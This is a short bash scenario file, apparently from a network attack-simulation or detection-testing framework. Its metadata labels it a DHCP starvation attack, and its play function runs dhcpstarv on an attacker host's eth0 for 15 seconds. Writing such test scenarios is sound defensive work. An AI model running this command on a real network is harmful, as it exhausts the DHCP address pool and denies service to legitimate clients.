# shellcheck shell=bash
# about: all addresses of the DHCP server (dhcpstarv)
# type: attack
# kind: dhcp_starvation
# target: dns attacker 255.255.255.255
# source: attacker
# tools: dhcpstarv dnsmasq
# within_ms: 5000
# packets: 100
play() {
	on attacker timeout 15 dhcpstarv -v -i eth0
}
